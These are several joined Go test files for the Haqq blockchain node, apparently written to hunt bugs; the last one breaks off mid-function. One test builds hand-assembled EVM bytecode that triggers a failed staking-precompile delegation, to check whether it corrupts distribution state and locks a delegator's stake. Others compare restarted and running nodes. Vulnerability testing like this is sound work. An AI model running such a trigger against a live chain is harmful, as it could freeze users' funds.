	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
)

// zzHunt2ForwarderRuntime is a tiny hand-assembled contract (no solc in the sandbox) that behaves like
//
//	(bool ok, ) = target.call(data); return abi.encode(ok);      // the failure of the inner call is tolerated
//
// With empty calldata it just stops. Otherwise the calldata layout is [0:32] target address, [32:] data.
//
//	00 CALLDATASIZE; PUSH1 0x05; JUMPI; STOP; JUMPDEST
//	06 PUSH1 0x20; CALLDATASIZE; SUB
//	0a DUP1; PUSH1 0x20; PUSH1 0; CALLDATACOPY
//	10 PUSH1 0; PUSH1 0; DUP3; PUSH1 0; PUSH1 0; PUSH1 0; CALLDATALOAD; GAS; CALL
//	1e PUSH1 0; MSTORE; PUSH1 0x20; PUSH1 0; RETURN
var zzHunt2ForwarderRuntime = common.FromHex(
	"3660055700" + "5b" +
		"60203603" +
		"806020600037" +
		"6000600082600060006000355af1" +
		"60005260206000f3",
)

func zzHunt2InitCode(runtime []byte) []byte {
	// PUSH1 len; DUP1; PUSH1 0x0b; PUSH1 0; CODECOPY; PUSH1 0; RETURN
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

// zzHunt2BrokenInvariants runs every invariant registered in the crisis module
// (the ones `CrisisKeeper.AssertInvariants` runs) and returns the messages of the broken ones.
func (s *PrecompileTestSuite) zzHunt2BrokenInvariants() []string {
	var broken []string
	for _, ir := range s.app.CrisisKeeper.Routes() {
		func() {
			// an invariant that cannot even be evaluated is as bad as a broken one (AssertInvariants panics either way)
			defer func() {
				if r := recover(); r != nil {
					broken = append(broken, fmt.Sprintf("%s/%s PANICKED: %v", ir.ModuleName, ir.Route, r))
				}
			}()
			if msg, stop := ir.Invar(s.ctx); stop {
				broken = append(broken, msg)
			}
		}()
	}
	return broken
}

// zzHunt2SendEthTx delivers an ordinary signed Ethereum transaction from the suite's account,
// requires it to succeed and returns the EVM return data.
func (s *PrecompileTestSuite) zzHunt2SendEthTx(to *common.Address, input []byte) []byte {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   s.app.EvmKeeper.ChainID(),
		Nonce:     s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:        to,
		GasLimit:  1_000_000,
		GasFeeCap: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		GasTipCap: big.NewInt(1),
		Input:     input,
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = s.address.String()

	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err, "the transaction must be an ordinary successful EVM transaction")
	ethRes, err := haqqtestutil.CheckEthTxResponse(res, s.app.AppCodec())
	s.Require().NoError(err)
	s.Require().Len(ethRes, 1)
	s.Require().False(ethRes[0].Failed(), "vm error: %s", ethRes[0].VmError)
	return ethRes[0].Ret
}

func (s *PrecompileTestSuite) zzHunt2NextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// Property C15: after every block, whatever transactions it contained, the registered accounting
// invariants hold (here: distribution's reference-count invariant - every delegation holds one
// reference on a historical-rewards record, i.e. every delegation has its distribution starting info).
//
// History: the signer already has a delegation to validator 0 (genesis). In one ordinary, successful EVM
// transaction the signer calls a contract that forwards a `delegate(signer, validator0, 1_000_000 ISLM)`
// call to the staking precompile with a low-level call and tolerates its failure (the signer only owns
// ~5 ISLM, so the delegation fails with "insufficient funds"). A failed call must leave no trace.
func (s *PrecompileTestSuite) TestZZHuntFailedPrecompileCallLeavesHalfADelegation() {
	s.SetupTest()
	s.zzHunt2NextBlock()
	s.Require().Empty(s.zzHunt2BrokenInvariants(), "invariants must hold at the start")

	contractAddr, err := s.DeployContract(evmtypes.CompiledContract{Bin: zzHunt2InitCode(zzHunt2ForwarderRuntime)})
	s.Require().NoError(err)
	s.zzHunt2NextBlock()
	s.Require().Equal(zzHunt2ForwarderRuntime, s.app.EvmKeeper.GetCode(s.ctx, crypto.Keccak256Hash(zzHunt2ForwarderRuntime)))

	// far more than the signer owns
	tooMuch, _ := new(big.Int).SetString("1000000000000000000000000", 10)

	// the signer authorises the contract to delegate on its behalf (ordinary tx to the precompile)
	precompileAddr := s.precompile.Address()
	approveCall, err := s.precompile.ABI.Pack(authorization.ApproveMethod, contractAddr, tooMuch, []string{staking.DelegateMsg})
	s.Require().NoError(err)
	s.zzHunt2SendEthTx(&precompileAddr, approveCall)
	s.zzHunt2NextBlock()

	delAddr := sdk.AccAddress(s.address.Bytes())
	valAddr := s.validators[0].GetOperator()

	delBefore, found := s.app.StakingKeeper.GetDelegation(s.ctx, delAddr, valAddr)
	s.Require().True(found, "the signer has a (genesis) delegation to validator 0")
	s.Require().True(s.app.DistrKeeper.HasDelegatorStartingInfo(s.ctx, valAddr, delAddr))
	balanceBefore := s.app.BankKeeper.GetBalance(s.ctx, delAddr, s.bondDenom)
	s.Require().True(balanceBefore.Amount.LT(math.NewIntFromBigInt(tooMuch)))
	s.Require().Empty(s.zzHunt2BrokenInvariants(), "invariants must hold before the transaction")

	// calldata = precompile address | delegate(signer, validator0, tooMuch)
	delegateCall, err := s.precompile.ABI.Pack(staking.DelegateMethod, s.address, s.validators[0].OperatorAddress, tooMuch)
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(precompileAddr.Bytes(), 32), delegateCall...)

	ret := s.zzHunt2SendEthTx(&contractAddr, input)
	s.Require().Equal(common.LeftPadBytes(nil, 32), ret, "the inner call to the precompile failed (the contract returns its success flag)")

	// the failed delegation did not happen ...
	delAfter, found := s.app.StakingKeeper.GetDelegation(s.ctx, delAddr, valAddr)
	s.Require().True(found)
	s.Require().Equal(delBefore.Shares.String(), delAfter.Shares.String(), "a failed delegate call does not change the delegation")

	// THE PROPERTY: ... so it must not have left anything behind either
	hasInfo := s.app.DistrKeeper.HasDelegatorStartingInfo(s.ctx, valAddr, delAddr)
	s.T().Logf("delegation %s -> %s: shares %s, has distribution starting info: %v", delAddr, valAddr, delAfter.Shares, hasInfo)
	s.Assert().True(hasInfo, "an existing delegation must have its distribution starting info")
	s.Assert().Empty(s.zzHunt2BrokenInvariants(), "registered crisis invariants must hold at the end of the block")
	s.Assert().NotPanics(func() { s.app.CrisisKeeper.AssertInvariants(s.ctx) })

	// consequence for the delegator: the delegation can no longer be touched by ordinary Cosmos messages
	cacheCtx, _ := s.ctx.CacheContext()
	_, err = stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).Undelegate(cacheCtx, stakingtypes.NewMsgUndelegate(delAddr, valAddr, sdk.NewCoin(s.bondDenom, math.NewInt(1))))
	s.Assert().NoError(err, "the signer must still be able to undelegate")
	cacheCtx, _ = s.ctx.CacheContext()
	_, err = s.app.DistrKeeper.WithdrawDelegationRewards(cacheCtx, delAddr, valAddr)
	s.Assert().NoError(err, "the signer must still be able to withdraw rewards")
}
