package keeper_test

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
)

// zzR4ChainID is the chain id hard-wired in app.EthSetupWithDB.
const zzR4ChainID = utils.TestEdge2ChainID + "-3"

// zzR4Node drives one application instance block by block.
type zzR4Node struct {
	t        *testing.T
	app      *app.Haqq
	proposer sdk.ConsAddress
}

func (n *zzR4Node) header(height int64, blockTime time.Time) tmproto.Header {
	return tmproto.Header{
		ChainID:         zzR4ChainID,
		Height:          height,
		Time:            blockTime,
		ProposerAddress: n.proposer.Bytes(),
		AppHash:         n.app.LastCommitID().Hash,
	}
}

// zzR4CloneDB copies the whole database: it is what a node finds on disk when it is
// started again after the last commit.
func zzR4CloneDB(t *testing.T, db dbm.DB) dbm.DB {
	clone := dbm.NewMemDB()
	it, err := db.Iterator(nil, nil)
	require.NoError(t, err)
	defer it.Close()
	for ; it.Valid(); it.Next() {
		require.NoError(t, clone.Set(bytes.Clone(it.Key()), bytes.Clone(it.Value())))
	}
	require.NoError(t, it.Error())
	return clone
}

// zzR4Restart opens a brand-new application on the given database, like a process start does.
func zzR4Restart(db dbm.DB) *app.Haqq {
	return app.NewHaqq(
		log.NewNopLogger(), db, nil, true, map[int64]bool{},
		app.DefaultNodeHome, 5,
		encoding.MakeConfig(app.ModuleBasics),
		simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
		baseapp.SetChainID(zzR4ChainID),
	)
}

// TestZZBankBalanceQueryRightAfterRestart compares the answers of a continuous node and of a node
// restarted from the database at the same block boundary, before the next block is executed.
// The eth_call / eth_estimateGas requests do not carry a chain id (it is an optional field of
// EthCallRequest) and target a contract that reads the CHAINID opcode, as every EIP-712 /
// permit style contract does to build its domain separator.
func TestZZBankBalanceQueryRightAfterRestart(t *testing.T) {
	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	sender := common.BytesToAddress(priv.PubKey().Address().Bytes())
	funds := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1, 24)))

	db := dbm.NewMemDB()
	nodeA := app.EthSetupWithDB(false, func(a *app.Haqq, genesis haqqtypes.GenesisState) haqqtypes.GenesisState {
		cdc := a.AppCodec()

		// use the real base denomination everywhere (staking, gov, crisis, bank ...)
		for name, raw := range genesis {
			genesis[name] = bytes.ReplaceAll(raw, []byte(`"`+sdk.DefaultBondDenom+`"`), []byte(`"`+utils.BaseDenom+`"`))
		}

		fm := feemarkettypes.DefaultGenesisState()
		fm.Params.NoBaseFee = true
		genesis[feemarkettypes.ModuleName] = cdc.MustMarshalJSON(fm)

		var auth authtypes.GenesisState
		cdc.MustUnmarshalJSON(genesis[authtypes.ModuleName], &auth)
		packed, err := authtypes.PackAccounts(authtypes.GenesisAccounts{&haqqtypes.EthAccount{
			BaseAccount: authtypes.NewBaseAccount(sdk.AccAddress(sender.Bytes()), nil, 0, 0),
			CodeHash:    common.BytesToHash(crypto.Keccak256(nil)).String(),
		}})
		require.NoError(t, err)
		auth.Accounts = append(auth.Accounts, packed...)
		genesis[authtypes.ModuleName] = cdc.MustMarshalJSON(&auth)

		var bank banktypes.GenesisState
		cdc.MustUnmarshalJSON(genesis[banktypes.ModuleName], &bank)
		bank.Balances = append(bank.Balances, banktypes.Balance{
			Address: sdk.AccAddress(sender.Bytes()).String(),
			Coins:   funds,
		})
		bank.Supply = bank.Supply.Add(funds...)
		genesis[banktypes.ModuleName] = cdc.MustMarshalJSON(&bank)
		return genesis
	}, db)

	genesisCtx := nodeA.BaseApp.NewContext(false, tmproto.Header{ChainID: zzR4ChainID})
	validators := nodeA.StakingKeeper.GetAllValidators(genesisCtx)
	require.Len(t, validators, 1)
	proposer, err := validators[0].GetConsAddr()
	require.NoError(t, err)

	chainID, err := haqqtypes.ParseChainID(zzR4ChainID)
	require.NoError(t, err)

	a := &zzR4Node{t: t, app: nodeA, proposer: proposer}
	start := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)

	deliver := func(n *zzR4Node, height int64, blockTime time.Time, txs ...[]byte) ([]abci.ResponseDeliverTx, []byte) {
		n.app.BeginBlock(abci.RequestBeginBlock{Header: n.header(height, blockTime)})
		out := make([]abci.ResponseDeliverTx, 0, len(txs))
		for _, tx := range txs {
			out = append(out, n.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: tx}))
		}
		n.app.EndBlock(abci.RequestEndBlock{Height: height})
		return out, n.app.Commit().Data
	}

	// ---- block 1: deploy a contract whose code is `CHAINID; MSTORE(0); RETURN(0, 32)`
	runtime := []byte{0x46, 0x60, 0x00, 0x52, 0x60, 0x20, 0x60, 0x00, 0xf3}
	initCode := append(append([]byte{0x68}, runtime...), 0x60, 0x00, 0x52, 0x60, 0x09, 0x60, 0x17, 0xf3)
	deployMsg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  chainID,
		Nonce:    0,
		Amount:   big.NewInt(0),
		GasLimit: 200_000,
		GasPrice: big.NewInt(1_000_000_000),
		Input:    initCode,
	})
	deployMsg.From = sender.Hex()
	require.NoError(t, deployMsg.Sign(ethtypes.LatestSignerForChainID(chainID), utiltx.NewSigner(priv)))
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	cosmosTx, err := utiltx.PrepareEthTx(txCfg, nodeA, nil, deployMsg)
	require.NoError(t, err)
	txBz, err := txCfg.TxEncoder()(cosmosTx)
	require.NoError(t, err)

	res, _ := deliver(a, 1, start, txBz)
	require.Equal(t, uint32(0), res[0].Code, res[0].Log)
	contract := crypto.CreateAddress(sender, 0)

	// ---- block 2: register the contract as an ERC20 token pair (state written in the block's deliver context)
	nodeA.BeginBlock(abci.RequestBeginBlock{Header: a.header(2, start.Add(5*time.Second))})
	dctx := nodeA.BaseApp.NewContext(false, a.header(2, start.Add(5*time.Second)))
	pair := erc20types.NewTokenPair(contract, "erc20/"+contract.Hex(), erc20types.OWNER_EXTERNAL)
	nodeA.Erc20Keeper.SetTokenPair(dctx, pair)
	nodeA.Erc20Keeper.SetDenomMap(dctx, pair.Denom, pair.GetID())
	nodeA.Erc20Keeper.SetERC20Map(dctx, contract, pair.GetID())
	nodeA.EndBlock(abci.RequestEndBlock{Height: 2})
	nodeA.Commit()

	// ---- the process is stopped here and started again from its database
	nodeB := zzR4Restart(zzR4CloneDB(t, db))
	b := &zzR4Node{t: t, app: nodeB, proposer: proposer}
	infoA, infoB := nodeA.Info(abci.RequestInfo{}), nodeB.Info(abci.RequestInfo{})
	require.Equal(t, infoA.LastBlockAppHash, infoB.LastBlockAppHash, "app hash after restart")

	// ---- the bank Balance query (Haqq's wrapper adds the ERC20 balance of registered pairs) on both nodes
	breq := &banktypes.QueryBalanceRequest{Address: sdk.AccAddress(sender.Bytes()).String(), Denom: pair.Denom}
	query := func(n *zzR4Node) abci.ResponseQuery {
		return n.app.Query(abci.RequestQuery{Path: "/cosmos.bank.v1beta1.Query/Balance", Data: n.app.AppCodec().MustMarshal(breq)})
	}
	qa := query(a)
	require.Equal(t, uint32(0), qa.Code, qa.Log)
	var ra banktypes.QueryBalanceResponse
	nodeA.AppCodec().MustUnmarshal(qa.Value, &ra)
	require.Equal(t, chainID.String(), ra.Balance.Amount.String(), "continuous node: balanceOf of the CHAINID contract is the chain id")
	qb := query(b)
	assert.Equal(t, qa.Code, qb.Code, "bank Balance query on the restarted node: %s", qb.Log)
	assert.Equal(t, hex.EncodeToString(qa.Value), hex.EncodeToString(qb.Value), "bank Balance answer differs between continuous and restarted node")
	_ = json.Marshal

	// ---- and the two nodes keep producing the same blocks
	_, hashA3 := deliver(a, 3, start.Add(10*time.Second))
	_, hashB3 := deliver(b, 3, start.Add(10*time.Second))
	require.Equal(t, hashA3, hashB3, "app hash of block 3")
}
