package app_test

import (
	"encoding/json"
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// A node is stopped and started again on the same data directory. Until the
// next block begins, transactions that reach it (JSON-RPC, p2p gossip) are
// checked by the freshly constructed application.
//
// Property: the Ethereum transaction that was wrapped into the Cosmos envelope
// is unwrapped on the other side with the same recoverable sender, i.e. a
// correctly signed transaction for this chain is admitted by CheckTx, and one
// that was signed for another chain (chain id 0) is not.
func TestZZHuntEnvelopeSenderAfterRestart(t *testing.T) {
	const chainID = utils.MainNetChainID + "-1" // haqq_11235-1
	eip155ChainID := big.NewInt(11235)

	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{tmtypes.NewValidator(pubKey, 1)})

	from, priv := utiltx.NewAddrKey()
	acc := authtypes.NewBaseAccount(from.Bytes(), nil, 0, 0)
	balance := banktypes.Balance{
		Address: acc.GetAddress().String(),
		Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1000, 18))),
	}

	newApp := func(db dbm.DB) *app.Haqq {
		return app.NewHaqq(
			log.NewNopLogger(),
			db, nil, true, map[int64]bool{},
			app.DefaultNodeHome, 0,
			encoding.MakeConfig(app.ModuleBasics),
			simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
			baseapp.SetChainID(chainID),
		)
	}

	// ---- first life of the node: genesis and one committed block
	db := dbm.NewMemDB()
	node := newApp(db)
	genesisState := app.NewDefaultGenesisState()
	genesisState = app.GenesisStateWithValSet(node, genesisState, valSet, []authtypes.GenesisAccount{acc}, balance)
	stateBytes, err := json.MarshalIndent(genesisState, "", " ")
	require.NoError(t, err)
	node.InitChain(abci.RequestInitChain{
		ChainId:         chainID,
		Validators:      []abci.ValidatorUpdate{},
		ConsensusParams: app.DefaultConsensusParams,
		AppStateBytes:   stateBytes,
	})
	header := tmproto.Header{
		ChainID:         chainID,
		Height:          1,
		Time:            time.Now().UTC(),
		ProposerAddress: valSet.Proposer.Address,
	}
	node.BeginBlock(abci.RequestBeginBlock{Header: header})
	node.EndBlock(abci.RequestEndBlock{Height: 1})
	node.Commit()

	// ---- the transactions, signed outside of the node
	txConfig := encoding.MakeConfig(app.ModuleBasics).TxConfig
	to := common.HexToAddress("0x00000000000000000000000000000000000000aa")
	wrap := func(signChainID *big.Int) ([]byte, *ethtypes.Transaction) {
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:   signChainID,
			Nonce:     0,
			To:        &to,
			Amount:    big.NewInt(1),
			GasLimit:  21000,
			GasFeeCap: big.NewInt(100_000_000_000),
			GasTipCap: big.NewInt(1),
			Accesses:  &ethtypes.AccessList{},
		})
		msg.From = from.Hex()
		require.NoError(t, msg.Sign(ethtypes.LatestSignerForChainID(signChainID), utiltx.NewSigner(priv)))
		ethTx := msg.AsTransaction()
		sender, err := ethtypes.Sender(ethtypes.LatestSignerForChainID(signChainID), ethTx)
		require.NoError(t, err)
		require.Equal(t, from, sender)

		require.NoError(t, msg.ValidateBasic())
		cosmosTx, err := msg.BuildTx(txConfig.NewTxBuilder(), utils.BaseDenom)
		require.NoError(t, err)
		bz, err := txConfig.TxEncoder()(cosmosTx)
		require.NoError(t, err)
		return bz, ethTx
	}
	goodBz, goodTx := wrap(eip155ChainID)
	foreignBz, _ := wrap(big.NewInt(0))

	// sanity: the running node admits the one and refuses the other
	res := node.CheckTx(abci.RequestCheckTx{Tx: goodBz})
	require.Equal(t, uint32(0), res.Code, "running node, tx for this chain: %s", res.Log)
	res = node.CheckTx(abci.RequestCheckTx{Tx: foreignBz})
	require.NotEqual(t, uint32(0), res.Code, "running node, tx signed for chain id 0")

	// ---- the node is restarted on the same database
	restarted := newApp(db)
	require.Equal(t, int64(1), restarted.LastBlockHeight())

	res = restarted.CheckTx(abci.RequestCheckTx{Tx: goodBz})
	t.Logf("restarted node, tx %s signed by %s for chain id %s: code=%d log=%q",
		goodTx.Hash(), from, eip155ChainID, res.Code, res.Log)
	resForeign := restarted.CheckTx(abci.RequestCheckTx{Tx: foreignBz})
	t.Logf("restarted node, tx signed for chain id 0: code=%d log=%q", resForeign.Code, resForeign.Log)

	require.Equal(t, uint32(0), res.Code,
		"a correctly signed transaction must keep its recoverable sender behind the Cosmos envelope: %s", res.Log)
	require.NotEqual(t, uint32(0), resForeign.Code,
		"a transaction signed for chain id 0 must not be admitted on chain %s", eip155ChainID)
}
