package app_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math/big"
	"os"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/client"
	sdkclienttx "github.com/cosmos/cosmos-sdk/client/tx"
	"github.com/cosmos/cosmos-sdk/testutil/mock"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	govv1beta1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1beta1"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	upgradetypes "github.com/cosmos/cosmos-sdk/x/upgrade/types"
	"github.com/cosmos/gogoproto/proto"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	bankprecompile "github.com/haqq-network/haqq/precompiles/bank"
	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	stakingtestdata "github.com/haqq-network/haqq/precompiles/staking/testdata"
	testcontracts "github.com/haqq-network/haqq/precompiles/testutil/contracts"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	liquidvestingtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	ucdaotypes "github.com/haqq-network/haqq/x/ucdao/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

const zzChainID = utils.TestEdge2ChainID + "-3"

type zzOpts map[string]interface{}

func (o zzOpts) Get(k string) interface{} { return o[k] }

type zzReplica struct {
	name      string
	db        dbm.DB
	app       *app.Haqq
	opts      zzOpts
	restart   bool // re-create the app from its database before every block
	noisy     bool // CheckTx / Simulate / PrepareProposal / ProcessProposal around the block
	invPeriod uint
}

func (r *zzReplica) build() {
	r.app = app.NewHaqq(
		log.NewNopLogger(), r.db, nil, true, map[int64]bool{}, app.DefaultNodeHome, r.invPeriod,
		encoding.MakeConfig(app.ModuleBasics), r.opts, baseapp.SetChainID(zzChainID),
	)
}

type zzAcc struct {
	priv *ethsecp256k1.PrivKey
	addr sdk.AccAddress
	eth  common.Address
}

type zzBlockResult struct {
	begin   abci.ResponseBeginBlock
	txs     []abci.ResponseDeliverTx
	end     abci.ResponseEndBlock
	appHash []byte
}

func zzStripEvents(evs []abci.Event) string {
	var b bytes.Buffer
	for _, e := range evs {
		b.WriteString(e.Type)
		b.WriteString("{")
		for _, a := range e.Attributes {
			b.WriteString(a.Key + "=" + a.Value + ";")
		}
		b.WriteString("}")
	}
	return b.String()
}

func zzCompare(t *testing.T, h int64, ref, got zzBlockResult, refName, gotName string) {
	t.Helper()
	require.Equal(t, len(ref.txs), len(got.txs))
	for i := range ref.txs {
		a, b := ref.txs[i], got.txs[i]
		require.Equalf(t, a.Code, b.Code, "height %d tx %d code: %s=%d(%s) %s=%d(%s)", h, i, refName, a.Code, a.Log, gotName, b.Code, b.Log)
		require.Equalf(t, a.GasUsed, b.GasUsed, "height %d tx %d gas used (%s vs %s) log=%s", h, i, refName, gotName, a.Log)
		require.Equalf(t, a.GasWanted, b.GasWanted, "height %d tx %d gas wanted (%s vs %s)", h, i, refName, gotName)
		require.Equalf(t, a.Data, b.Data, "height %d tx %d data (%s vs %s)", h, i, refName, gotName)
		require.Equalf(t, a.Codespace, b.Codespace, "height %d tx %d codespace", h, i)
		require.Equalf(t, zzStripEvents(a.Events), zzStripEvents(b.Events), "height %d tx %d events (%s vs %s)", h, i, refName, gotName)
	}
	require.Equalf(t, zzStripEvents(ref.begin.Events), zzStripEvents(got.begin.Events), "height %d begin block events (%s vs %s)", h, refName, gotName)
	require.Equalf(t, zzStripEvents(ref.end.Events), zzStripEvents(got.end.Events), "height %d end block events (%s vs %s)", h, refName, gotName)
	require.Equalf(t, ref.end.ValidatorUpdates, got.end.ValidatorUpdates, "height %d validator updates", h)
	require.Equalf(t, ref.appHash, got.appHash, "height %d app hash (%s vs %s)", h, refName, gotName)
}

type zzHarness struct {
	t        *testing.T
	replicas []*zzReplica
	accs     []zzAcc
	valAddr  []byte
	valOper  sdk.ValAddress
	vals     [][]byte
	absent   map[int]bool
	evidence []abci.Misbehavior
	txCfg    client.TxConfig
	height   int64
	now      time.Time
	lastHash []byte
}

func (h *zzHarness) ref() *zzReplica { return h.replicas[0] }

func (h *zzHarness) header() tmproto.Header {
	return tmproto.Header{
		ChainID:         zzChainID,
		Height:          h.height,
		Time:            h.now,
		ProposerAddress: h.vals[int(h.height)%len(h.vals)],
		AppHash:         h.lastHash,
	}
}

func (h *zzHarness) beginReq() abci.RequestBeginBlock {
	hh := sha256.Sum256(binary.BigEndian.AppendUint64(nil, uint64(h.height)))
	var votes []abci.VoteInfo
	for i, v := range h.vals {
		votes = append(votes, abci.VoteInfo{Validator: abci.Validator{Address: v, Power: 1}, SignedLastBlock: !h.absent[i]})
	}
	ev := h.evidence
	h.evidence = nil
	return abci.RequestBeginBlock{
		Hash:                hh[:],
		Header:              h.header(),
		LastCommitInfo:      abci.CommitInfo{Votes: votes},
		ByzantineValidators: ev,
	}
}

// refCtx gives the deliver-state context of the reference replica (inside a block).
func (h *zzHarness) refCtx() sdk.Context {
	return h.ref().app.BaseApp.NewContext(false, h.header())
}

func (h *zzHarness) signCosmos(acc zzAcc, gas uint64, fee sdk.Coins, mode signing.SignMode, msgs ...sdk.Msg) []byte {
	ctx := h.refCtx()
	a := h.ref().app.AccountKeeper.GetAccount(ctx, acc.addr)
	require.NotNil(h.t, a)
	seq, num := a.GetSequence(), a.GetAccountNumber()
	b := h.txCfg.NewTxBuilder()
	b.SetGasLimit(gas)
	b.SetFeeAmount(fee)
	require.NoError(h.t, b.SetMsgs(msgs...))
	sig := signing.SignatureV2{PubKey: acc.priv.PubKey(), Data: &signing.SingleSignatureData{SignMode: mode}, Sequence: seq}
	require.NoError(h.t, b.SetSignatures(sig))
	sd := authsigning.SignerData{ChainID: zzChainID, AccountNumber: num, Sequence: seq, Address: acc.addr.String(), PubKey: acc.priv.PubKey()}
	sig, err := sdkclienttx.SignWithPrivKey(mode, sd, b, acc.priv, h.txCfg, seq)
	require.NoError(h.t, err)
	require.NoError(h.t, b.SetSignatures(sig))
	bz, err := h.txCfg.TxEncoder()(b.GetTx())
	require.NoError(h.t, err)
	return bz
}

func (h *zzHarness) ethMsg(acc zzAcc, nonceInc uint64, to *common.Address, amount *big.Int, gas uint64, data []byte, dynamic bool) *evmtypes.MsgEthereumTx {
	ctx := h.refCtx()
	nonce := h.ref().app.EvmKeeper.GetNonce(ctx, acc.eth) + nonceInc
	baseFee := h.ref().app.FeeMarketKeeper.GetBaseFee(ctx)
	if baseFee == nil {
